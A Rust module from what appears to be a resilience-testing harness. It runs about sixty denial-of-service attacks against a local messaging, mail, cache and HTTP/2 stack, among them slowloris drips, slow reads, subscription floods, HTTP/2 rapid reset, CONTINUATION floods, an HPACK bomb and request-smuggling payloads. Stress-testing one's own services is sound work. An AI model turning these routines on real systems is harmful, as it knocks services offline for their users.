//! Attacks, each a few lines over a crowd of connections; none follows its protocol's manners.

use std::{
    io::{self, Read, Write},
    net::SocketAddr,
    thread,
    time::Duration,
};

use super::{
    Target, Until,
    crowd::{Tally, hold},
    http2, mail, origins,
};
use crate::{connections::connect_from, mail::Smtp};

/// A way to attack.
pub struct Attack {
    /// Name in tables.
    pub name: &'static str,
    /// Description of the attack.
    pub tries: &'static str,
    /// Runs the attack; returns `None` where the target lacks the part.
    run: fn(&Target, &Until) -> Option<Tally>,
}

/// All attacks.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "feed-pong", tries: "PING by the thousand, no PONG read", run: feed_pong },
    Attack { name: "feed-errors", tries: "lasting errors by the thousand, none read", run: feed_errors },
    Attack { name: "feed-churn", tries: "SUB and UNSUB without an end", run: feed_churn },
    Attack {
        name: "feed-deaf",
        tries: "subscribed to what it publishes itself, never reading",
        run: feed_deaf,
    },
    Attack {
        name: "feed-wildcards",
        tries: "new subjects over thousands of deep wildcards",
        run: feed_wildcards,
    },
    Attack { name: "feed-nobody", tries: "requests that nobody answers", run: feed_nobody },
    Attack { name: "feed-subjects", tries: "four thousand subjects in turn", run: feed_subjects },
    Attack { name: "feed-stuck", tries: "everything subscribed to, and nothing read", run: feed_stuck },
    Attack { name: "feed-refusing", tries: "groups whose members all refuse", run: feed_refusing },
    Attack { name: "feed-groups", tries: "thousands of groups at one subject", run: feed_groups },
    Attack { name: "feed-tokens", tries: "patterns of six hundred tokens", run: feed_tokens },
    Attack {
        name: "feed-silent",
        tries: "one subscription to everything that reads nothing",
        run: feed_silent,
    },
    Attack { name: "feed-kept", tries: "patterns of six hundred tokens, all kept", run: feed_kept },
    Attack { name: "feed-holders", tries: "messages of 60 KiB, never finished", run: feed_holders },
    Attack { name: "web-empty", tries: "frames without payload", run: web_empty },
    Attack { name: "web-unfinished", tries: "frames of 4 MiB that do not end", run: web_unfinished },
    Attack { name: "web-idle", tries: "connections without a handshake", run: web_idle },
    Attack { name: "feed-monitor", tries: "monitoring pages as fast as they come", run: feed_monitor },
    Attack { name: "monitor-idle", tries: "connections to monitoring that say nothing", run: monitor_idle },
    Attack { name: "admin-idle", tries: "connections to the admin port that drip", run: admin_idle },
    Attack { name: "smtp-drip", tries: "SMTP, a byte at a time", run: smtp_drip },
    Attack { name: "smtp-flood", tries: "mails as fast as they are taken", run: smtp_flood },
    Attack { name: "mail-bodies", tries: "bodies of 30 MiB, never finished", run: mail_bodies },
    Attack { name: "mail-lists", tries: "long lists with whole letters, hardly read", run: mail_lists },
    Attack { name: "mail-render", tries: "pages of a tag with 60,000 attributes", run: mail_render },
    Attack { name: "mail-search", tries: "searches through everything", run: mail_search },
    Attack { name: "mail-later", tries: "deletions in five minutes, by the hundred", run: mail_later },
    Attack {
        name: "mail-nested",
        tries: "links within links, each with all that is within",
        run: mail::nested,
    },
    Attack {
        name: "mail-heads",
        tries: "heads of 20 MB that are looked through again and again",
        run: mail::heads,
    },
    Attack { name: "mail-folds", tries: "searches in letters that fold into eighteen", run: mail::folds },
    Attack {
        name: "mail-strangers",
        tries: "mails to a hundred whom nobody has met, each",
        run: mail::strangers,
    },
    Attack { name: "mail-marks", tries: "read marks of others' mails, and deletions", run: mail::marks },
    Attack {
        name: "pages-live",
        tries: "event streams and waits from eight addresses",
        run: mail::live_pages,
    },
    Attack {
        name: "pages-heads",
        tries: "heads of requests of 400 KB, never finished",
        run: mail::request_heads,
    },
    Attack { name: "pages-drip", tries: "heads of requests, a byte at a time", run: pages_drip },
    Attack { name: "cache-drip", tries: "the same to the accelerator", run: cache_drip },
    Attack { name: "cache-unread", tries: "stored pages by the thousand, none read", run: cache_unread },
    Attack { name: "cache-greedy", tries: "stored pages as fast as they come", run: cache_greedy },
    Attack { name: "cache-uploads", tries: "uploads, a byte at a time", run: cache_uploads },
    Attack { name: "cache-misses", tries: "addresses that nobody asked for, hardly read", run: cache_misses },
    Attack { name: "cache-ranges", tries: "ranges of pages that are not stored", run: cache_ranges },
    Attack {
        name: "cache-wrong",
        tries: "forbidden purges, broken requests, no such ranges",
        run: cache_wrong,
    },
    Attack { name: "cache-slow-read", tries: "a thousand that read a byte a second", run: cache_slow_read },
    Attack { name: "cache-slow-write", tries: "a thousand that send a byte a second", run: cache_slow_write },
    Attack { name: "origin-slow", tries: "pages that take the origin long", run: origins::slow },
    Attack {
        name: "origin-uploads",
        tries: "uploads that stop after their first byte",
        run: origins::uploads,
    },
    Attack {
        name: "origin-ranges",
        tries: "single bytes far apart, and of a body without end",
        run: origins::ranges,
    },
    Attack { name: "origin-keys", tries: "one path with ever another query", run: origins::keys },
    Attack { name: "origin-leavers", tries: "event streams that are opened and left", run: origins::leavers },
    Attack {
        name: "h2-slow-pages",
        tries: "a hundred slow pages on each connection",
        run: http2::slow_pages,
    },
    Attack { name: "h2-rapid-reset", tries: "streams that are opened and given up", run: http2::rapid_reset },
    Attack {
        name: "h2-made-reset",
        tries: "streams that break a rule, one after the other",
        run: http2::made_us_reset,
    },
    Attack { name: "h2-continuation", tries: "a head that does not end", run: http2::continuations },
    Attack { name: "h2-settings", tries: "SETTINGS without an end", run: http2::settings },
    Attack { name: "h2-pings", tries: "PING without an end", run: http2::pings },
    Attack { name: "h2-priorities", tries: "PRIORITY without an end", run: http2::priorities },
    Attack { name: "h2-empty", tries: "frames without content", run: http2::empty_frames },
    Attack { name: "h2-bomb", tries: "references to one large entry of the table", run: http2::bomb },
    Attack { name: "h2-crumbs", tries: "cookies in crumbs", run: http2::crumbs },
    Attack { name: "h2-stalled", tries: "answers behind windows of nothing", run: http2::stalled_windows },
    Attack { name: "h2-tiny-windows", tries: "answers a byte at a time", run: http2::tiny_windows },
];

/// Attacks that deliver their mails first, with [`mail::stored`].
const PREPARED: [&str; 4] = ["mail-render", "mail-nested", "mail-heads", "mail-folds"];

impl Attack {
    fn is_prepared(&self) -> bool {
        PREPARED.contains(&self.name)
    }

    fn begin(&self, target: &Target, until: &Until) -> Option<Tally> {
        if !self.is_prepared() {
            until.wait_for_prepared();
        }
        (self.run)(target, until)
    }
}

/// Runs all attacks at once for which the target has the parts. Returns the tally of each.
///
/// # Panics
/// If an attack panics.
#[must_use]
pub fn run(target: &Target, until: &Until, only: &[String]) -> Vec<(&'static str, Tally)> {
    let wanted = |attack: &&Attack| only.is_empty() || only.iter().any(|name| name == attack.name);
    let wanted: Vec<_> = ATTACKS.iter().filter(wanted).collect();
    if target.smtp.is_some() && target.pages.is_some() {
        until.prepare(wanted.iter().filter(|attack| attack.is_prepared()).count());
    }
    thread::scope(|scope| {
        let all: Vec<_> =
            wanted.iter().map(|attack| (attack.name, scope.spawn(|| attack.begin(target, until)))).collect();
        all.into_iter()
            .filter_map(|(name, thread)| Some((name, thread.join().expect("an attack does not panic")?)))
            .collect()
    })
}

const CONNECT: &str =
    "CONNECT {\"verbose\":false,\"pedantic\":false,\"headers\":true,\"no_responders\":true}\r\n";

fn feed_pong(target: &Target, until: &Until) -> Option<Tally> {
    let pings = "PING\r\n".repeat(4096);
    Some(hold(target.feed?, 64, until, |member| member.pump(pings.as_bytes())))
}

fn feed_errors(target: &Target, until: &Until) -> Option<Tally> {
    let wrong = "SUB a..b 1\r\n".repeat(4096);
    Some(hold(target.feed?, 32, until, |member| member.pump(wrong.as_bytes())))
}

fn feed_churn(target: &Target, until: &Until) -> Option<Tally> {
    let churn: String = (0..4096).map(|n| format!("SUB churn.{n}.> {n}\r\nUNSUB {n}\r\n")).collect();
    Some(hold(target.feed?, 16, until, |member| {
        member.pump(churn.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn feed_deaf(target: &Target, until: &Until) -> Option<Tally> {
    let mut all = format!("{CONNECT}SUB deaf.> 1\r\n");
    let payload = "x".repeat(8192);
    for _ in 0..64 {
        all += &format!("PUB deaf.a {}\r\n{payload}\r\n", payload.len());
    }
    Some(hold(target.feed?, 64, until, |member| member.pump(all.as_bytes())))
}

/// Every way to write `*` or `a` at thirteen positions: matching a subject of thirteen `a` walks all patterns
/// and finds none.
fn feed_wildcards(target: &Target, until: &Until) -> Option<Tally> {
    const DEEP: u32 = 13;
    let mut patterns = String::from(CONNECT);
    for n in 0..1_u32 << DEEP {
        let tokens: Vec<&str> = (0..DEEP).map(|at| if n >> at & 1 == 1 { "*" } else { "a" }).collect();
        patterns += &format!("SUB {}.end {n}\r\n", tokens.join("."));
    }
    let path = vec!["a"; DEEP as usize].join(".");
    let subjects: String = (0..3000).map(|n| format!("PUB {path}.{n} 0\r\n\r\n")).collect();
    Some(hold(target.feed?, 4, until, |member| {
        if member.number == 0 {
            return member.finish(patterns.as_bytes());
        }
        member.pump(subjects.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn feed_nobody(target: &Target, until: &Until) -> Option<Tally> {
    let mut asked = format!("{CONNECT}SUB back.> 1\r\n");
    for n in 0..2048 {
        asked += &format!("PUB nobody.{n} back.{n} 0\r\n\r\n");
    }
    Some(hold(target.feed?, 16, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 18)
    }))
}

fn feed_subjects(target: &Target, until: &Until) -> Option<Tally> {
    let mut all = format!("{CONNECT}SUB turn.*.> 1\r\n");
    for n in 0..4000 {
        all += &format!("PUB turn.{n}.x 4\r\nwork\r\n");
    }
    Some(hold(target.feed?, 8, until, |member| {
        member.pump(all.as_bytes())?;
        member.sip(1 << 18)
    }))
}

/// Four members subscribe to everything and read nothing; the other members fill their backlogs.
fn feed_stuck(target: &Target, until: &Until) -> Option<Tally> {
    let everything = format!("{CONNECT}SUB > 1\r\n");
    let flood = format!("{CONNECT}PUB flood 8192\r\n{}\r\n", "x".repeat(8192));
    Some(hold(target.feed?, 8, until, |member| match member.number {
        0..4 => member.finish(everything.as_bytes()),
        _ => member.pump_behind(CONNECT.as_bytes(), flood.as_bytes()),
    }))
}

/// A member that subscribes to everything and reads nothing; honest messages fill its backlog.
fn feed_silent(target: &Target, until: &Until) -> Option<Tally> {
    let everything = format!("{CONNECT}SUB > 1\r\n");
    Some(hold(target.feed?, 1, until, |member| member.finish(everything.as_bytes())))
}

/// Long subscriptions by the thousand; thirty thousand of them once took 1.7 GiB.
fn feed_kept(target: &Target, until: &Until) -> Option<Tally> {
    let path = "k.".repeat(600);
    let mut patterns = String::from(CONNECT);
    (0..4000).for_each(|n| patterns += &format!("SUB {n}.{path}end {n}\r\n"));
    Some(hold(target.feed?, 8, until, |member| {
        member.finish(patterns.as_bytes())?;
        member.sip(1 << 16)
    }))
}

/// Many connections that each hold an unfinished message; they once kept every honest message of 100 KiB out.
fn feed_holders(target: &Target, until: &Until) -> Option<Tally> {
    let begun = format!("{CONNECT}PUB held 61441\r\n{}", "x".repeat(61_440));
    Some(hold(target.feed?, 2000, until, |member| {
        member.finish(begun.as_bytes())?;
        member.sip(4096)
    }))
}

/// Each connection is in a queue group twenty thousand times, and refuses its own messages (`echo: false`).
fn feed_refusing(target: &Target, until: &Until) -> Option<Tally> {
    let mut members = CONNECT.replace("\"verbose\"", "\"echo\":false,\"verbose\"");
    (0..20_000).for_each(|n| members += &format!("SUB refused q {n}\r\n"));
    let message = "PUB refused 0\r\n\r\n".repeat(1000);
    Some(hold(target.feed?, 4, until, |member| {
        member.pump_behind(members.as_bytes(), message.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn feed_groups(target: &Target, until: &Until) -> Option<Tally> {
    let mut groups = String::from(CONNECT);
    (0..40_000).for_each(|n| groups += &format!("SUB grouped q{n} {n}\r\n"));
    (0..40_000).for_each(|n| groups += &format!("UNSUB {n}\r\n"));
    Some(hold(target.feed?, 4, until, |member| {
        member.pump(groups.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn feed_tokens(target: &Target, until: &Until) -> Option<Tally> {
    let path = "t.".repeat(600);
    let mut patterns = String::from(CONNECT);
    (0..4000).for_each(|n| patterns += &format!("SUB {n}.{path}end {n}\r\n"));
    (0..4000).for_each(|n| patterns += &format!("UNSUB {n}\r\n"));
    Some(hold(target.feed?, 8, until, |member| {
        member.pump(patterns.as_bytes())?;
        member.sip(1 << 16)
    }))
}

const UPGRADE: &str = "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                       Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

fn web_empty(target: &Target, until: &Until) -> Option<Tally> {
    let empty = [0x82, 0x80, 0, 0, 0, 0].repeat(10_000);
    Some(hold(target.web?, 4, until, |member| {
        member.sip(4096)?;
        // The WebSocket library accepts no frame before it has answered the handshake.
        if member.age < 20 { member.finish(UPGRADE.as_bytes()) } else { member.pump(&empty) }
    }))
}

fn web_unfinished(target: &Target, until: &Until) -> Option<Tally> {
    let mut begun = UPGRADE.as_bytes().to_vec();
    let head = begun.len();
    begun.extend_from_slice(&[0x82, 0xff, 0, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0]);
    begun.resize(begun.len() + (4 << 20) - 1, b' ');
    Some(hold(target.web?, 200, until, |member| {
        member.sip(4096)?;
        member.finish(if member.age < 20 { &begun[..head] } else { &begun })
    }))
}

fn web_idle(target: &Target, until: &Until) -> Option<Tally> {
    Some(hold(target.web?, 1500, until, |member| member.sip(1)))
}

fn feed_monitor(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.monitor?;
    let asked: String = ["/varz", "/connz?subs=1&limit=1024", "/subsz?subs=1", "/accountz"]
        .map(|path| format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n"))
        .concat();
    Some(hold(address, 8, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 20)
    }))
}

fn monitor_idle(target: &Target, until: &Until) -> Option<Tally> {
    Some(hold(target.monitor?, 200, until, |member| member.sip(1)))
}

fn admin_idle(target: &Target, until: &Until) -> Option<Tally> {
    Some(drip(target.admin?, 200, until))
}

fn pages_drip(target: &Target, until: &Until) -> Option<Tally> {
    Some(drip(target.pages?, 200, until))
}

fn cache_drip(target: &Target, until: &Until) -> Option<Tally> {
    Some(drip(target.cache?, 400, until))
}

fn cache_unread(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let asked = format!("GET /about HTTP/1.1\r\nHost: {address}\r\n\r\n").repeat(512);
    Some(hold(address, 200, until, |member| member.pump(asked.as_bytes())))
}

fn cache_greedy(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let asked = format!("GET /about HTTP/1.1\r\nHost: {address}\r\n\r\n").repeat(512);
    Some(hold(address, 8, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 20)
    }))
}

fn cache_uploads(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let head = format!("POST /upload HTTP/1.1\r\nHost: {address}\r\nContent-Length: 1000000\r\n\r\n");
    let upload = head.clone() + &"x".repeat(1_000_000);
    Some(hold(address, 200, until, |member| {
        member.sip(4096)?;
        if member.age < head.len() as u64 || member.age % 20 == 0 {
            member.drip(upload.as_bytes())
        } else {
            Ok(())
        }
    }))
}

/// Thousands of addresses, each of which causes a fetch and an answer to store.
fn cache_misses(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let asked: String =
        (0..20_000).map(|n| format!("GET /about?miss={n} HTTP/1.1\r\nHost: {address}\r\n\r\n")).collect();
    Some(hold(address, 100, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 12)
    }))
}

fn cache_ranges(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let asked: String = (0..1000)
        .map(|n| {
            format!(
                "GET /about?part={n} HTTP/1.1\r\nHost: {address}\r\nRange: bytes=100-199\r\nCookie: visitor={n}\r\n\r\n"
            )
        })
        .collect();
    Some(hold(address, 50, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 14)
    }))
}

/// Requests that get an error page, each for another reason; some of them end the connection.
fn cache_wrong(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let host = format!("Host: {address}");
    let asked = [
        format!(
            "PURGE /about HTTP/1.1\r\n{host}\r\nContent-Length: 40\r\n\r\nGET /about HTTP/1.1\r\nHost: smuggled\r\n\r\n\r\n"
        ),
        format!(
            "GET /about HTTP/1.1\r\n{host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nabc"
        ),
        format!("GET /about HTTP/1.1\r\n{host}\r\n{}\r\n", "X: y\r\n".repeat(2000)),
        format!("GET /{} HTTP/1.1\r\n{host}\r\n\r\n", "a".repeat(20_000)),
        format!("OPTIONS * HTTP/1.1\r\n{host}\r\nMax-Forwards: 0\r\n\r\n"),
        format!("GET /about HTTP/1.1\r\n{host}\r\nRange: bytes=999999999-\r\n\r\n"),
    ];
    Some(hold(address, 64, until, |member| {
        member.pump(asked[member.number % asked.len()].as_bytes())?;
        member.sip(1 << 14)
    }))
}

/// Endless pages, each read at one byte a second.
fn cache_slow_read(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let asked = format!("GET /about HTTP/1.1\r\nHost: {address}\r\n\r\n").repeat(600);
    Some(hold(address, 1000, until, |member| {
        member.finish(asked.as_bytes())?;
        if member.age % 100 == 0 { member.sip(1) } else { Ok(()) }
    }))
}

/// Uploads at one byte a second, each after a complete head.
fn cache_slow_write(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.cache?;
    let head = format!("POST /upload HTTP/1.1\r\nHost: {address}\r\nContent-Length: 1000000\r\n\r\n");
    let body = [b'x'; 64];
    Some(hold(address, 1000, until, |member| {
        member.sip(64)?;
        member.finish(head.as_bytes())?;
        if member.age % 100 == 0 { member.drip(&body) } else { Ok(()) }
    }))
}

/// Heads that never end, at one byte each half second.
fn drip(address: SocketAddr, count: usize, until: &Until) -> Tally {
    let head = format!("GET / HTTP/1.1\r\nHost: {address}\r\n{}", "X-Slow: yes\r\n".repeat(10_000));
    hold(address, count, until, |member| {
        if member.age % 50 == 0 { member.drip(head.as_bytes()) } else { member.sip(64) }
    })
}

fn smtp_drip(target: &Target, until: &Until) -> Option<Tally> {
    let session = "EHLO slow.test\r\nMAIL FROM:<slow@slow.test>\r\nRCPT TO:<slow@night.test>\r\nDATA\r\n"
        .to_owned()
        + &"slowly\r\n".repeat(10_000);
    Some(hold(target.smtp?, 200, until, |member| {
        member.sip(4096)?;
        if member.age % 20 == 0 { member.drip(session.as_bytes()) } else { Ok(()) }
    }))
}

fn smtp_flood(target: &Target, until: &Until) -> Option<Tally> {
    let mut session = String::from("EHLO flood.test\r\n");
    let line = "flood flood flood flood flood flood flood flood\r\n".repeat(600);
    for n in 0..16 {
        session += &format!(
            "MAIL FROM:<flood@flood.test>\r\nRCPT TO:<flood{n}@night.test>\r\nDATA\r\nSubject: flood\r\n\r\n{line}.\r\n"
        );
    }
    Some(hold(target.smtp?, 32, until, |member| {
        member.pump(session.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn mail_bodies(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.pages?;
    // All of the announced size but the last byte: the body is held in memory and never complete.
    let announced = 30 << 20;
    let mut head = format!(
        "POST /inbox/bodies@night.test/api/v1/send HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n\
         Content-Length: {announced}\r\n\r\n"
    )
    .into_bytes();
    head.resize(head.len() + announced - 1, b' ');
    Some(hold(address, 100, until, |member| {
        member.finish(&head)?;
        member.sip(4096)
    }))
}

fn mail_lists(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.pages?;
    for n in 0..8 {
        let _ = send(
            target.smtp?,
            &format!("long{n}@night.test"),
            &"a long letter, and again\r\n".repeat(40_000),
        );
    }
    let asked: String = (0..8)
        .map(|n| {
            format!(
                "GET /api/v2/domains/night.test/inboxes/long{n}?limit=99&full=true HTTP/1.1\r\nHost: {address}\r\n\r\n"
            )
        })
        .collect();
    Some(hold(address, 64, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(64)
    }))
}

fn mail_render(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.pages?;
    let attributes: String = (0..60_000).map(|n| format!(" a{n}=1\r\n")).collect();
    let bomb = format!("Content-Type: text/html\r\nSubject: bomb\r\n\r\n<p{attributes}>text</p>\r\n");
    let nested =
        format!("Content-Type: text/html\r\nSubject: deep\r\n\r\n{}\r\n", "<div>\r\n".repeat(60_000));
    let mails = [bomb, nested];
    let Some(ids) = mail::stored(target.smtp?, address, "bomb", &mails, until) else {
        return Some(Tally::default());
    };
    let asked: String = ids
        .iter()
        .map(|id| format!("GET /inbox/bomb@night.test/{id}/frame HTTP/1.1\r\nHost: {address}\r\n\r\n"))
        .collect();
    Some(hold(address, 16, until, |member| {
        // Each connection sends all requests once a second, and some leave before their answer.
        if member.age % 100 == 0 {
            member.finish(asked.as_bytes())?;
        }
        if member.age > 300 && member.number % 2 == 0 {
            return Err(io::ErrorKind::Interrupted.into());
        }
        member.sip(1 << 20)
    }))
}

fn mail_search(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.pages?;
    let asked: String = (0..64)
        .map(|n| format!("GET /inbox/long{}@night.test/api/v1/search?query=never{n} HTTP/1.1\r\nHost: {address}\r\n\r\n", n % 8))
        .collect();
    Some(hold(address, 32, until, |member| {
        member.pump(asked.as_bytes())?;
        member.sip(1 << 16)
    }))
}

fn mail_later(target: &Target, until: &Until) -> Option<Tally> {
    let address = target.pages?;
    let asked = format!(
        "GET /api/v2/domains/night.test/inboxes/long0?limit=1&delete=5m HTTP/1.1\r\nHost: {address}\r\n\r\n\
         GET /api/v2/domains/night.test/inboxes/nobody?limit=1&wait=5m HTTP/1.1\r\nHost: {address}\r\n\r\n"
    );
    Some(hold(address, 100, until, |member| {
        member.finish(asked.as_bytes())?;
        member.sip(1 << 16)
    }))
}

/// Source address for preparing attacks, which would not get through beside the floods from 127.0.0.1.
const ALOOF: [u8; 4] = [127, 0, 0, 3];

/// Delivers a mail and waits for each reply, because a client that does not wait is taken for a spammer.
pub(super) fn send(smtp: SocketAddr, to: &str, mail: &str) -> io::Result<bool> {
    Smtp::over(connect_from(ALOOF, smtp)?)?.mail(to, mail)
}

pub(super) fn ask(address: SocketAddr, path: &str) -> io::Result<String> {
    let mut stream = connect_from(ALOOF, address)?;
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    write!(stream, "GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n")?;
    let mut text = String::new();
    stream.read_to_string(&mut text).map(|_| text)
}
